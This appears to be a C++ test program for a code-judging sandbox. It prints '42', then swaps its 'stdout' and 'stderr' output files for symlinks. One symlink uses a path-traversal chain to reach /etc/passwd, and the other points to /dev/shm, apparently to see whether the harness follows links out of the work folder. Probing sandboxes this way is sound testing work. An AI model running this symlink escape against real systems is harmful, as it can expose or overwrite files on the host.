// A link to the host's temporary folder, by more steps than one, and out of the work folder.
#include <cstdio>
#include <unistd.h>
int main() {
  std::puts("42");
  std::fflush(stdout);
  unlink("stdout");
  symlink("../../../../../../tmp", "up");
  symlink("up/../etc/passwd", "stdout");
  unlink("stderr");
  symlink("/dev/shm", "stderr");
}
